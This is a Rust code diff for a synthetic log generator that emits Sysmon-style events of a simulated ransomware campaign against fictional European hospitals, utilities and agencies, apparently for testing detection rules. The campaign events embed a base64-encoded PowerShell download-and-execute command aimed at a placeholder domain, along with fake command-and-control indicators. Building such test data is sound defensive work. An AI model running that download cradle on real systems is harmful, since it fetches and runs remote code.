@@ -64,79 +64,67 @@ impl Rng {
 }
 
 /// An organisation: display name, host prefix, NIS2 sector slug, member state.
+#[derive(Debug, Clone)]
 pub struct Org {
-    pub name: &'static str,
-    pub short: &'static str,
+    pub name: String,
+    pub short: String,
     pub sector: &'static str,
-    pub member_state: &'static str,
+    pub member_state: String,
 }
 
-const fn org(
-    name: &'static str,
-    short: &'static str,
-    sector: &'static str,
-    member_state: &'static str,
-) -> Org {
-    Org {
-        name,
-        short,
-        sector,
-        member_state,
-    }
-}
-
-/// The organisations of the workload (fictional). The first six are the campaign's victims.
-pub const ORGS: &[Org] = &[
-    org("Klinikum Nordstadt", "KLN", "health", "DE"),
-    org("Hopital Saint-Aubin", "HSA", "health", "FR"),
-    org("Rete Elettrica Adriatica", "REA", "energy", "IT"),
-    org(
+/// The named organisations of the default workload (fictional): name, host prefix, sector,
+/// member state. The first six are the first campaign wave's victims.
+const NAMED_ORGS: &[(&str, &str, &str, &str)] = &[
+    ("Klinikum Nordstadt", "KLN", "health", "DE"),
+    ("Hopital Saint-Aubin", "HSA", "health", "FR"),
+    ("Rete Elettrica Adriatica", "REA", "energy", "IT"),
+    (
         "Rijksdienst Digitale Zaken",
         "RDZ",
         "public-administration",
         "NL",
     ),
-    org("Energie Vltava", "EVL", "energy", "CZ"),
-    org(
+    ("Energie Vltava", "EVL", "energy", "CZ"),
+    (
         "Agencia Tributaria del Sur",
         "ATS",
         "public-administration",
         "ES",
     ),
-    org("Universitaetsklinikum Rheinland", "UKR", "health", "DE"),
-    org("Stadtwerke Oberau", "SWO", "energy", "DE"),
-    org(
+    ("Universitaetsklinikum Rheinland", "UKR", "health", "DE"),
+    ("Stadtwerke Oberau", "SWO", "energy", "DE"),
+    (
         "Bundesamt fuer Statistikdienste",
         "BFS",
         "public-administration",
         "DE",
     ),
-    org("Banque Lemaire", "BLM", "banking", "FR"),
-    org("Eaux de Lorraine", "EDL", "drinking-water", "FR"),
-    org("Prefecture Numerique", "PRN", "public-administration", "FR"),
-    org("Ospedale San Marco", "OSM", "health", "IT"),
-    org("Ferrovie Ligure", "FRL", "transport", "IT"),
-    org("Zorggroep Delta", "ZGD", "health", "NL"),
-    org("Havenbedrijf Noordzee", "HBN", "transport", "NL"),
-    org("Nemocnice Brno-Jih", "NBJ", "health", "CZ"),
-    org("Hospital Costa Blanca", "HCB", "health", "ES"),
-    org("Red Electrica Meseta", "REM", "energy", "ES"),
-    org("Szpital Wojewodzki Lublin", "SWL", "health", "PL"),
-    org("Energa Polnoc", "ENP", "energy", "PL"),
-    org("Landeskrankenhaus Steiermark", "LKS", "health", "AT"),
-    org("Wiener Datenzentrum", "WDZ", "digital-infrastructure", "AT"),
-    org("Centre Hospitalier Namur", "CHN", "health", "BE"),
-    org("Elia Transport Sud", "ETS", "energy", "BE"),
-    org("Sairaala Pohjola", "SPO", "health", "FI"),
-    org("Vesilaitos Etela", "VLE", "drinking-water", "FI"),
-    org(
+    ("Banque Lemaire", "BLM", "banking", "FR"),
+    ("Eaux de Lorraine", "EDL", "drinking-water", "FR"),
+    ("Prefecture Numerique", "PRN", "public-administration", "FR"),
+    ("Ospedale San Marco", "OSM", "health", "IT"),
+    ("Ferrovie Ligure", "FRL", "transport", "IT"),
+    ("Zorggroep Delta", "ZGD", "health", "NL"),
+    ("Havenbedrijf Noordzee", "HBN", "transport", "NL"),
+    ("Nemocnice Brno-Jih", "NBJ", "health", "CZ"),
+    ("Hospital Costa Blanca", "HCB", "health", "ES"),
+    ("Red Electrica Meseta", "REM", "energy", "ES"),
+    ("Szpital Wojewodzki Lublin", "SWL", "health", "PL"),
+    ("Energa Polnoc", "ENP", "energy", "PL"),
+    ("Landeskrankenhaus Steiermark", "LKS", "health", "AT"),
+    ("Wiener Datenzentrum", "WDZ", "digital-infrastructure", "AT"),
+    ("Centre Hospitalier Namur", "CHN", "health", "BE"),
+    ("Elia Transport Sud", "ETS", "energy", "BE"),
+    ("Sairaala Pohjola", "SPO", "health", "FI"),
+    ("Vesilaitos Etela", "VLE", "drinking-water", "FI"),
+    (
         "Riigi Infosusteemide Keskus",
         "RIK",
         "public-administration",
         "EE",
     ),
-    org("Ospidal Reigiunach", "ORG", "health", "IE"),
-    org(
+    ("Ospidal Reigiunach", "ORG", "health", "IE"),
+    (
         "Cloudhost Luxembourg",
         "CHL",
         "digital-infrastructure",
@@ -144,13 +132,196 @@ pub const ORGS: &[Org] = &[
     ),
 ];
 
-/// The campaign's infrastructure (also in rules/iocs/cert-eu-sample.txt).
+/// Sectors in the order a workload takes them: those of the named organisations first,
+/// then the other NIS2 sectors in Annex order.
+fn sector_order() -> Vec<&'static str> {
+    let mut order: Vec<&'static str> = Vec::new();
+    for &(_, _, sector, _) in NAMED_ORGS {
+        if !order.contains(&sector) {
+            order.push(sector);
+        }
+    }
+    for sector in tocsin_core::Sector::ALL {
+        if !order.contains(&sector.slug()) {
+            order.push(sector.slug());
+        }
+    }
+    order
+}
+
+/// Member states in the order a workload takes them: those of the named organisations
+/// first, then the other EU member states.
+fn member_state_order() -> Vec<String> {
+    let mut order: Vec<String> = Vec::new();
+    for &(_, _, _, ms) in NAMED_ORGS {
+        if !order.iter().any(|o| o == ms) {
+            order.push(ms.to_owned());
+        }
+    }
+    for ms in tocsin_core::MemberState::EU {
+        if !order.iter().any(|o| o == ms.as_str()) {
+            order.push(ms.as_str().to_owned());
+        }
+    }
+    order
+}
+
+/// The organisations of a workload, and how they spread over sectors and member states.
+#[derive(Debug, Clone)]
+pub struct Topology {
+    pub orgs: Vec<Org>,
+    pub sectors: usize,
+    pub member_states: usize,
+}
+
+impl Topology {
+    /// `orgs` organisations over the first `sectors` sectors and `member_states` member
+    /// states of the workload's order. Organisation `i` is the `i`th named one when that
+    /// one's sector and member state are among those chosen; otherwise it is a numbered
+    /// organisation in sector `i mod sectors` and member state `i mod member_states`, so
+    /// that every sector and member state has organisations once there are enough.
+    pub fn new(orgs: usize, sectors: usize, member_states: usize) -> Result<Self> {
+        let sector_order = sector_order();
+        let ms_order = member_state_order();
+        anyhow::ensure!(orgs >= 1, "--orgs must be at least 1");
+        anyhow::ensure!(
+            (1..=sector_order.len()).contains(&sectors),
+            "--sectors must be between 1 and {} (the NIS2 sectors)",
+            sector_order.len()
+        );
+        anyhow::ensure!(
+            (1..=ms_order.len()).contains(&member_states),
+            "--member-states must be between 1 and {} (the EU member states)",
+            ms_order.len()
+        );
+        let sectors_used = &sector_order[..sectors];
+        let states_used = &ms_order[..member_states];
+        let orgs = (0..orgs)
+            .map(|i| match NAMED_ORGS.get(i) {
+                Some(&(name, short, sector, ms))
+                    if sectors_used.contains(&sector) && states_used.iter().any(|s| s == ms) =>
+                {
+                    Org {
+                        name: name.to_owned(),
+                        short: short.to_owned(),
+                        sector,
+                        member_state: ms.to_owned(),
+                    }
+                }
+                _ => {
+                    let sector = sectors_used[i % sectors];
+                    let member_state = states_used[i % member_states].clone();
+                    Org {
+                        name: format!("Entity {i:05} ({sector}, {member_state})"),
+                        short: format!("E{i:05}"),
+                        sector,
+                        member_state,
+                    }
+                }
+            })
+            .collect();
+        Ok(Topology {
+            orgs,
+            sectors,
+            member_states,
+        })
+    }
+}
+
+impl Default for Topology {
+    /// The thirty named organisations: seven sectors, thirteen member states.
+    fn default() -> Self {
+        Topology::new(NAMED_ORGS.len(), 7, 13).expect("the default topology is valid")
+    }
+}
+
+/// The size and mix of a workload. `tocsin gen` and `tocsin demo` build one; the output
+/// is a pure function of it.
+#[derive(Debug, Clone)]
+pub struct Workload {
+    /// Background events (the campaign's come on top).
+    pub events: u64,
+    pub seed: u64,
+    pub shape: Shape,
+    pub topology: Topology,
+    /// Hosts per organisation: the first (up to) six are servers, the rest workstations.
+    pub hosts_per_org: u64,
+    /// Campaign waves, spread evenly over the workload's time span.
+    pub campaign_waves: u64,
+}
+
+/// Most hosts a workload holds (they are built once, ~100 bytes each).
+pub const MAX_HOSTS: u64 = 4_000_000;
+/// Most campaign waves (their events are built up front, ~25 kB per wave).
+pub const MAX_WAVES: u64 = 20_000;
+
+impl Workload {
+    /// The default mix: the named organisations, 60 hosts each, one campaign wave.
+    pub fn new(events: u64, seed: u64, shape: Shape) -> Self {
+        Workload {
+            events,
+            seed,
+            shape,
+            topology: Topology::default(),
+            hosts_per_org: 60,
+            campaign_waves: 1,
+        }
+    }
+
+    fn check(&self) -> Result<()> {
+        anyhow::ensure!(
+            self.hosts_per_org >= 1,
+            "--hosts-per-org must be at least 1"
+        );
+        let hosts = self.topology.orgs.len() as u64 * self.hosts_per_org;
+        anyhow::ensure!(
+            hosts <= MAX_HOSTS,
+            "{} organisations x {} hosts = {hosts} hosts; at most {MAX_HOSTS} are supported",
+            self.topology.orgs.len(),
+            self.hosts_per_org
+        );
+        anyhow::ensure!(
+            self.campaign_waves <= MAX_WAVES,
+            "{} campaign waves; at most {MAX_WAVES} are supported",
+            self.campaign_waves
+        );
+        Ok(())
+    }
+}
+
+/// The first campaign wave's infrastructure (also in rules/iocs/cert-eu-sample.txt).
 pub const C2_DOMAIN: &str = "cdn.invoice-viewer.example";
 pub const C2_IP: &str = "203.0.113.47";
 pub const LOADER_SHA256: &str = "9f2c4b7e1d3a5c6b8e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f";
-/// Victims of the loader stage (indexes into [`ORGS`]) and of the ransomware stage.
-pub const LOADER_VICTIMS: [usize; 6] = [0, 1, 2, 3, 4, 5];
-pub const RANSOM_VICTIMS: [usize; 4] = [0, 2, 3, 4];
+/// Organisations hit by the loader stage of a wave; the ransomware stage follows at those
+/// in positions [`RANSOM_STAGE`] of the wave's victims.
+pub const WAVE_VICTIMS: usize = 6;
+pub const RANSOM_STAGE: [usize; 4] = [0, 2, 3, 4];
+
+/// One wave's infrastructure: the first wave's is the published sample's; later waves use
+/// fresh names and addresses (documentation ranges), so only rules find them.
+struct Infrastructure {
+    c2_domain: String,
+    c2_ip: String,
+    loader_sha256: String,
+}
+
+fn infrastructure(wave: u64) -> Infrastructure {
+    if wave == 0 {
+        return Infrastructure {
+            c2_domain: C2_DOMAIN.to_owned(),
+            c2_ip: C2_IP.to_owned(),
+            loader_sha256: LOADER_SHA256.to_owned(),
+        };
+    }
+    let n = wave - 1;
+    let net = ["198.51.100", "192.0.2"][(n / 254 % 2) as usize];
+    Infrastructure {
+        c2_domain: format!("cdn{wave}.invoice-viewer.example"),
+        c2_ip: format!("{net}.{}", 1 + n % 254),
+        loader_sha256: fake_sha256(&format!("loader-wave-{wave}")),
+    }
+}
 
 const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
 const HOUR: i64 = 3_600_000;
@@ -303,10 +474,10 @@ fn ecs_header(
         .close()
         .open("labels")
         .s("sector", h.org.sector)
-        .s("member_state", h.org.member_state)
+        .s("member_state", &h.org.member_state)
         .close()
         .open("organization")
-        .s("name", h.org.name)
+        .s("name", &h.org.name)
         .close()
         .open("event")
         .n_text("code", event_id)
@@ -332,8 +503,8 @@ fn header(o: &mut Obj<'_>, t: Timestamp, event_id: u64, h: &Host<'_>) {
         .s("Hostname", &h.host)
         .s("UtcTime", &utc_time(&time))
         .s("sector", h.org.sector)
-        .s("member_state", h.org.member_state)
-        .s("organisation", h.org.name)
+        .s("member_state", &h.org.member_state)
+        .s("organisation", &h.org.name)
         .s("sensor", &h.sensor);
 }
 
@@ -555,40 +726,50 @@ fn benign_ip(rng: &mut Rng) -> String {
     format!("{}.{}", rng.pick(&prefixes), 1 + rng.below(250))
 }
 
-/// Hosts per organisation: 6 servers, then workstations.
-const HOSTS_PER_ORG: u64 = 60;
-
 /// Every background host with its user's profile directory, built once (a workload picks
 /// one per event).
-struct Hosts {
-    hosts: Vec<(Host<'static>, String)>,
+struct Hosts<'t> {
+    hosts: Vec<(Host<'t>, String)>,
+    orgs: u64,
+    per_org: u64,
 }
 
-impl Hosts {
-    fn new() -> Self {
-        let mut hosts = Vec::with_capacity(ORGS.len() * HOSTS_PER_ORG as usize);
-        for org in ORGS {
-            for n in 0..HOSTS_PER_ORG {
+/// A user's profile directory (`C:\Users\user012`).
+fn user_dir(h: &Host<'_>) -> String {
+    format!(
+        "C:\\Users\\{}",
+        h.user.rsplit('\\').next().unwrap_or("user")
+    )
+}
+
+impl<'t> Hosts<'t> {
+    fn new(topology: &'t Topology, per_org: u64) -> Self {
+        let mut hosts = Vec::with_capacity(topology.orgs.len() * per_org as usize);
+        for org in &topology.orgs {
+            for n in 0..per_org {
                 let h = host_of(org, n);
-                let user_dir = format!(
-                    "C:\\Users\\{}",
-                    h.user.rsplit('\\').next().unwrap_or("user")
-                );
-                hosts.push((h, user_dir));
+                let dir = user_dir(&h);
+                hosts.push((h, dir));
             }
         }
-        Hosts { hosts }
+        Hosts {
+            hosts,
+            orgs: topology.orgs.len() as u64,
+            per_org,
+        }
     }
 
     /// A random organisation's random host (two draws of `rng`: organisation, host).
-    fn pick(&self, rng: &mut Rng) -> &(Host<'static>, String) {
-        let org = rng.below(ORGS.len() as u64);
-        let n = rng.below(HOSTS_PER_ORG);
-        &self.hosts[(org * HOSTS_PER_ORG + n) as usize]
+    fn pick(&self, rng: &mut Rng) -> &(Host<'t>, String) {
+        let org = rng.below(self.orgs);
+        let n = rng.below(self.per_org);
+        &self.hosts[(org * self.per_org + n) as usize]
     }
 }
 
-fn host_of(org: &'static Org, n: u64) -> Host<'static> {
+/// Host `n` of an organisation: numbers below 6 are servers (run by a backup service
+/// account), the rest workstations (one user each).
+fn host_of(org: &Org, n: u64) -> Host<'_> {
     let (host, user) = if n < 6 {
         (
             format!("{}-SRV{:02}", org.short, n),
@@ -609,7 +790,7 @@ fn host_of(org: &'static Org, n: u64) -> Host<'static> {
 }
 
 /// One background event at time `t`.
-fn background(out: &mut Out, t: Timestamp, rng: &mut Rng, hosts: &Hosts) {
+fn background(out: &mut Out, t: Timestamp, rng: &mut Rng, hosts: &Hosts<'_>) {
     let (h, user_dir) = hosts.pick(rng);
     let k = rng.below(900);
     match rng.below(100) {
@@ -737,11 +918,36 @@ fn background(out: &mut Out, t: Timestamp, rng: &mut Rng, hosts: &Hosts) {
     }
 }
 
-/// The campaign's events, as (time, JSON line), in time order.
-pub fn campaign_events(seed: u64, shape: Shape) -> Vec<(Timestamp, Vec<u8>)> {
-    let mut rng = Rng::new(seed.wrapping_add(0xC0FFEE));
+/// The campaign's events, every wave, as (time, JSON line), in time order.
+pub fn campaign_events(w: &Workload) -> Vec<(Timestamp, Vec<u8>)> {
     let mut events: Vec<(Timestamp, Vec<u8>)> = Vec::new();
-    let base = base_time().0;
+    for wave in 0..w.campaign_waves {
+        let start = base_time().0 + (SPAN as i128 * wave as i128 / w.campaign_waves as i128) as i64;
+        wave_events(w, wave, start, &mut events);
+    }
+    events.sort_by_key(|(t, _)| *t);
+    events
+}
+
+/// One campaign wave starting at `base`: the loader at [`WAVE_VICTIMS`] organisations
+/// 25 minutes apart, the ransomware at four of them two hours later.
+fn wave_events(w: &Workload, wave: u64, base: i64, events: &mut Vec<(Timestamp, Vec<u8>)>) {
+    let (seed, shape, orgs) = (w.seed, w.shape, &w.topology.orgs);
+    // Wave 0 draws exactly what the single campaign always drew.
+    let wave_seed = seed ^ (wave << 32);
+    let mut rng = Rng::new(seed.wrapping_add(0xC0FFEE).wrapping_add(wave << 40));
+    let infra = infrastructure(wave);
+    let victims: Vec<&Org> = (0..WAVE_VICTIMS.min(orgs.len()))
+        .map(|j| &orgs[(wave as usize * WAVE_VICTIMS + j) % orgs.len()])
+        .collect();
+    // Victim hosts: a workstation numbered from 10 (with 60 hosts: 10..49), a server
+    // numbered from 1 (1..5), within the organisation's hosts.
+    let per_org = w.hosts_per_org;
+    let ws_first = 10.min(per_org - 1);
+    let ws_span = 40.min(per_org - ws_first);
+    let servers = 6.min(per_org);
+    let srv_first = 1.min(servers - 1);
+    let srv_span = (servers - 1).clamp(1, 5);
     let mut push = |t: i64, f: &mut dyn FnMut(&mut Out, Timestamp)| {
         let mut out = Out {
             buf: Vec::new(),
@@ -752,19 +958,13 @@ pub fn campaign_events(seed: u64, shape: Shape) -> Vec<(Timestamp, Vec<u8>)> {
         events.push((t, out.buf));
     };
     let payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGkAbgB2AG8AaQBjAGUALQB2AGkAZQB3AGUAcgAuAGUAeABhAG0AcABsAGUALwB2ACcAKQA=";
-    for (k, &v) in LOADER_VICTIMS.iter().enumerate() {
-        let org = &ORGS[v];
-        let n = 10 + rng.below(40);
-        let h = Host {
-            org,
-            host: format!("{}-WS{:03}", org.short, n),
-            user: format!("{}\\user{:03}", org.short, n),
-            sensor: sensor_of(org),
-        };
-        let user_dir = format!("C:\\Users\\user{n:03}");
+    for (k, &org) in victims.iter().enumerate() {
+        let n = ws_first + rng.below(ws_span);
+        let h = host_of(org, n);
+        let user_dir = user_dir(&h);
         let temp_exe = format!("{user_dir}\\AppData\\Local\\Temp\\InvoiceViewer.exe");
         let t = base + HOUR + k as i64 * 25 * 60_000 + rng.below(120_000) as i64;
-        let mut r = Rng::new(seed ^ k as u64);
+        let mut r = Rng::new(wave_seed ^ k as u64);
         push(t, &mut |o, at| {
             process(o, at, &h, &mut r, WORD, &format!("\"{WORD}\" /n \"{user_dir}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1X7\\Invoice_{}.docm\"", 4000 + k), OUTLOOK, "Medium", None)
         });
@@ -782,10 +982,18 @@ pub fn campaign_events(seed: u64, shape: Shape) -> Vec<(Timestamp, Vec<u8>)> {
             )
         });
         push(t + 45_000, &mut |o, at| {
-            dns(o, at, &h, POWERSHELL, C2_DOMAIN, C2_IP)
+            dns(o, at, &h, POWERSHELL, &infra.c2_domain, &infra.c2_ip)
         });
         push(t + 47_000, &mut |o, at| {
-            network(o, at, &h, &mut r, POWERSHELL, C2_IP, C2_DOMAIN)
+            network(
+                o,
+                at,
+                &h,
+                &mut r,
+                POWERSHELL,
+                &infra.c2_ip,
+                &infra.c2_domain,
+            )
         });
         push(t + 60_000, &mut |o, at| {
             file(o, at, &h, POWERSHELL, &temp_exe)
@@ -800,20 +1008,15 @@ pub fn campaign_events(seed: u64, shape: Shape) -> Vec<(Timestamp, Vec<u8>)> {
                 &format!("\"{temp_exe}\" /s"),
                 POWERSHELL,
                 "Medium",
-                Some(LOADER_SHA256),
+                Some(&infra.loader_sha256),
             )
         });
     }
-    for (k, &v) in RANSOM_VICTIMS.iter().enumerate() {
-        let org = &ORGS[v];
-        let h = Host {
-            org,
-            host: format!("{}-SRV{:02}", org.short, 1 + rng.below(5)),
-            user: format!("{}\\svc_backup", org.short),
-            sensor: sensor_of(org),
-        };
+    let ransom_victims = RANSOM_STAGE.iter().filter_map(|&j| victims.get(j));
+    for (k, &org) in ransom_victims.enumerate() {
+        let h = host_of(org, srv_first + rng.below(srv_span));
         let t = base + 3 * HOUR + k as i64 * 20 * 60_000 + rng.below(120_000) as i64;
-        let mut r = Rng::new(seed ^ (100 + k as u64));
+        let mut r = Rng::new(wave_seed ^ (100 + k as u64));
         push(t, &mut |o, at| {
             process(
                 o,
@@ -850,27 +1053,17 @@ pub fn campaign_events(seed: u64, shape: Shape) -> Vec<(Timestamp, Vec<u8>)> {
             )
         });
     }
-    events.sort_by_key(|(t, _)| *t);
-    events
 }
 
-/// Write `events` background events (with the campaign mixed in, unless `campaign` is
-/// false) as JSON lines of the given shape to `out`.
-pub fn generate(
-    out: &mut dyn Write,
-    events: u64,
-    seed: u64,
-    campaign: bool,
-    shape: Shape,
-) -> Result<u64> {
-    let mut rng = Rng::new(seed);
-    let injected = if campaign {
-        campaign_events(seed, shape)
-    } else {
-        Vec::new()
-    };
+/// Write the workload (background events with the campaign waves mixed in) as JSON lines
+/// to `out`; returns the number of events written.
+pub fn generate(out: &mut dyn Write, w: &Workload) -> Result<u64> {
+    w.check()?;
+    let (events, shape) = (w.events, w.shape);
+    let mut rng = Rng::new(w.seed);
+    let injected = campaign_events(w);
     let mut next = injected.iter().peekable();
-    let hosts = Hosts::new();
+    let hosts = Hosts::new(&w.topology, w.hosts_per_org);
     let mut buf = Out {
         buf: Vec::with_capacity(1 << 20),
         shape,
@@ -904,4 +1097,122 @@ pub fn generate(
     out.write_all(&buf.buf)?;
     out.flush()?;
     Ok(written)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Generate a workload into memory and parse every line.
+    fn lines(w: &Workload) -> Vec<serde_json::Value> {
+        let mut out = Vec::new();
+        let written = generate(&mut out, w).unwrap();
+        let lines: Vec<serde_json::Value> = out
+            .split(|&b| b == b'\n')
+            .filter(|l| !l.is_empty())
+            .map(|l| serde_json::from_slice(l).unwrap())
+            .collect();
+        assert_eq!(lines.len() as u64, written);
+        lines
+    }
+
+    fn distinct(lines: &[serde_json::Value], field: &str) -> std::collections::BTreeSet<String> {
+        lines
+            .iter()
+            .map(|l| l[field].as_str().unwrap().to_owned())
+            .collect()
+    }
+
+    #[test]
+    fn the_default_topology_is_the_named_organisations() {
+        let t = Topology::default();
+        assert_eq!(t.orgs.len(), NAMED_ORGS.len());
+        for (org, named) in t.orgs.iter().zip(NAMED_ORGS) {
+            assert_eq!(org.name, named.0);
+        }
+    }
+
+    #[test]
+    fn organisations_spread_over_the_chosen_sectors_and_member_states() {
+        let mut w = Workload::new(20_000, 3, Shape::Sysmon);
+        w.topology = Topology::new(200, 18, 27).unwrap();
+        w.hosts_per_org = 3;
+        let events = lines(&w);
+        assert_eq!(distinct(&events, "sector").len(), 18);
+        assert_eq!(distinct(&events, "member_state").len(), 27);
+        let orgs = distinct(&events, "organisation");
+        assert!(orgs.len() > 190 && orgs.len() <= 200, "{}", orgs.len());
+        let hosts = distinct(&events, "Hostname");
+        assert!(hosts.len() > 500 && hosts.len() <= 600, "{}", hosts.len());
+
+        // Fewer sectors and member states: only those appear, named organisations that do
+        // not fit are replaced.
+        w.topology = Topology::new(40, 2, 3).unwrap();
+        let events = lines(&w);
+        assert_eq!(
+            distinct(&events, "sector"),
+            ["energy", "health"].map(String::from).into()
+        );
+        assert_eq!(
+            distinct(&events, "member_state"),
+            ["DE", "FR", "IT"].map(String::from).into()
+        );
+        assert!(distinct(&events, "organisation").contains("Klinikum Nordstadt"));
+        assert!(!distinct(&events, "organisation").contains("Banque Lemaire"));
+    }
+
+    #[test]
+    fn campaign_waves_each_hit_six_organisations_with_their_own_infrastructure() {
+        let mut w = Workload::new(10_000, 5, Shape::Sysmon);
+        w.topology = Topology::new(60, 7, 13).unwrap();
+        w.campaign_waves = 4;
+        let events = lines(&w);
+        let notes: Vec<&serde_json::Value> = events
+            .iter()
+            .filter(|l| {
+                l["TargetFilename"]
+                    .as_str()
+                    .is_some_and(|f| f.ends_with("README_NIGHTGLASS.txt"))
+            })
+            .collect();
+        assert_eq!(notes.len(), 4 * RANSOM_STAGE.len());
+        let queried: std::collections::BTreeSet<&str> = events
+            .iter()
+            .filter_map(|l| l["QueryName"].as_str())
+            .filter(|q| q.ends_with("invoice-viewer.example"))
+            .collect();
+        assert_eq!(queried.len(), 4, "{queried:?}");
+        assert!(queried.contains(C2_DOMAIN));
+        let loader_victims: std::collections::BTreeSet<&str> = events
+            .iter()
+            .filter(|l| {
+                l["QueryName"]
+                    .as_str()
+                    .is_some_and(|q| q.ends_with("invoice-viewer.example"))
+            })
+            .map(|l| l["organisation"].as_str().unwrap())
+            .collect();
+        assert_eq!(loader_victims.len(), 4 * WAVE_VICTIMS);
+
+        w.campaign_waves = 0;
+        assert!(lines_without_campaign(&w));
+    }
+
+    fn lines_without_campaign(w: &Workload) -> bool {
+        lines(w).iter().all(|l| {
+            l["QueryName"]
+                .as_str()
+                .is_none_or(|q| !q.ends_with("invoice-viewer.example"))
+        })
+    }
+
+    #[test]
+    fn limits_are_errors() {
+        assert!(Topology::new(0, 7, 13).is_err());
+        assert!(Topology::new(10, 19, 13).is_err());
+        assert!(Topology::new(10, 7, 28).is_err());
+        let mut w = Workload::new(10, 1, Shape::Ecs);
+        w.hosts_per_org = MAX_HOSTS;
+        assert!(generate(&mut Vec::new(), &w).is_err());
+    }
 }
